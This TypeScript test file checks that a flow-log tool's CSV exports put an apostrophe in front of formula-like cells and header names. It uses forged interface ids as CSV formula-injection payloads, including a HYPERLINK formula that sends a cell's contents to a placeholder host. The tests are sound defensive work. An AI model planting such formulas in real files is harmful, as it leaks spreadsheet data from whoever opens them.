/**
 * A CSV export is opened in a spreadsheet, and the text of a flow log is written by whoever sends the traffic
 * or the log line: a cell that starts like a formula must arrive as text, and nothing else may change.
 */
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { Engine } from '../../../main/engine';
import { flowscopeInProcess } from '../../support/flowscope-cli';
import { tempDir } from '../workspace/helpers';

const dir = tempDir('flowscope-export-spreadsheet-');
const workspace = join(dir, 'w.duckdb');
const HEADER =
  'version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status';
const record = (eni: string, start: number) =>
  `2 123456789012 ${eni} 10.0.0.1 10.0.0.2 443 49152 6 10 5000 ${start} ${start + 60} ACCEPT OK`;
// Interface ids as an attacker forges them (no spaces: the default format splits at spaces), and a NODATA record.
const HOSTILE = ['=HYPERLINK("http://x/?"&A1)', '+SUM(1,2)', '-2+3', '@SUM(1+1)', 'eni-0a1b2c'];
let engine: Engine;

before(async () => {
  const log = join(dir, 'hostile.log');
  const lines = HOSTILE.map((eni, i) => record(eni, 1764900000 + i));
  lines.push('2 123456789012 - - - - - - - - 1764900100 1764900160 - NODATA');
  writeFileSync(log, `${HEADER}\n${lines.join('\n')}\n`);
  engine = await Engine.open({ workspace, create: true });
  const { jobId } = await engine.ingestFiles({ files: [engine.files.register(log)] });
  assert.equal((await engine.jobWait({ jobId })).state, 'done');
});

after(async () => {
  await engine.close();
});

/** The interface-id cells written, in record order, and the bytes and action cells of the NODATA record. */
const EXPECTED = [`"'=HYPERLINK(""http://x/?""&A1)"`, `"'+SUM(1,2)"`, `'-2+3`, `'@SUM(1+1)`, 'eni-0a1b2c', '-'];
const QUERY = 'fields interfaceId, action, bytes, -5 as negative | sort @timestamp asc';

function cells(csv: string): { eni: string[]; last: string } {
  const lines = csv
    .replace(/^\uFEFF/, '')
    .trimEnd()
    .split('\n');
  assert.equal(lines[0], 'interfaceId,action,bytes,negative');
  const rows = lines.slice(1);
  // The first field is up to the comma that follows it, quotes and all.
  return { eni: rows.map((l) => /^("(?:[^"]|"")*"|[^,]*)/.exec(l)![1]!), last: rows.at(-1)! };
}

test("the workbench's CSV export writes a text cell that starts like a formula with a ' in front, and only those", async () => {
  const { resultId } = await engine.queryRun({ query: QUERY, dialect: 'insights', pageSize: 10 });
  const file = join(dir, 'export.csv');
  await engine.exportResult({ resultId, format: 'csv', target: engine.files.register(file) });
  const text = readFileSync(file, 'utf8');
  assert.ok(text.startsWith('\uFEFFinterfaceId,'), 'a file starts with the byte order mark Excel needs');
  const { eni, last } = cells(text);
  assert.deepEqual(eni, EXPECTED);
  // The NODATA record's `-` as logged, and a number below zero, are written as they are.
  assert.equal(last, '-,-,-,-5');
});

test('flowscope query --format csv and --output x.csv write the same cells', async () => {
  await engine.close();
  const printed = await flowscopeInProcess(['query', QUERY, '--workspace', workspace, '--format', 'csv']);
  assert.equal(printed.code, 0, printed.err);
  const out = join(dir, 'cli.csv');
  const written = await flowscopeInProcess(['query', QUERY, '--workspace', workspace, '--output', out]);
  assert.equal(written.code, 0, written.err);
  engine = await Engine.open({ workspace });
  assert.ok(printed.out.startsWith('interfaceId,'), 'printed for other programs: no byte order mark');
  assert.ok(readFileSync(out, 'utf8').startsWith('\uFEFFinterfaceId,'), 'a file: the byte order mark');
  for (const csv of [printed.out, readFileSync(out, 'utf8')]) {
    const { eni, last } = cells(csv);
    assert.deepEqual(eni, EXPECTED);
    assert.equal(last, '-,-,-,-5');
  }
});

test('column names made of record values (Sumo transpose) get the same rule in the header line', async () => {
  const query = '_sourceCategory=vpc | count by interface_id, action | transpose row action column interface_id';
  const { resultId } = await engine.queryRun({ query, dialect: 'sumo', pageSize: 10 });
  const file = join(dir, 'transposed.csv');
  await engine.exportResult({ resultId, format: 'csv', target: engine.files.register(file) });
  const header = readFileSync(file, 'utf8')
    .replace(/^\uFEFF/, '')
    .split('\n')[0]!;
  assert.deepEqual(header.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/).sort(), [
    `"'+SUM(1,2)"`,
    `"'=HYPERLINK(""http://x/?""&A1)"`,
    "'-2+3",
    "'@SUM(1+1)",
    '-',
    'action',
    'eni-0a1b2c',
  ]);
  await engine.close();
  const printed = await flowscopeInProcess(['query', query, '--workspace', workspace, '--format', 'csv']);
  engine = await Engine.open({ workspace });
  assert.equal(printed.out.split('\n')[0], header, 'printed with the same header');
});

test("an export of Logs Insights records ('@timestamp,'@message,… in its header line) imports back, its records as logged", async () => {
  const { resultId } = await engine.queryRun({
    query: 'fields @timestamp, @message, @logStream | sort @timestamp asc',
    dialect: 'insights',
    pageSize: 10,
  });
  const file = join(dir, 'records.csv');
  await engine.exportResult({ resultId, format: 'csv', target: engine.files.register(file) });
  // The guard stays on the header's @ names, which Excel reads as the start of a formula.
  assert.ok(readFileSync(file, 'utf8').startsWith("\uFEFF'@timestamp,'@message,'@logStream\n"));
  const other = await Engine.open({ workspace: join(dir, 'round-trip.duckdb'), create: true });
  try {
    const { jobId } = await other.ingestFiles({ files: [other.files.register(file)] });
    const job = await other.jobWait({ jobId });
    assert.equal(job.state, 'done', JSON.stringify(job));
    const query = 'SELECT interface_id, bytes, start FROM flows ORDER BY start';
    const read = async (e: Engine) => {
      const { resultId: id } = await e.queryRun({ query, dialect: 'sql', pageSize: 20 });
      return (await e.queryPage({ resultId: id, offset: 0, limit: 20 })).rows;
    };
    const rows = await read(other);
    assert.equal(rows.length, HOSTILE.length + 1);
    assert.deepEqual(rows, await read(engine));
  } finally {
    await other.close();
  }
});
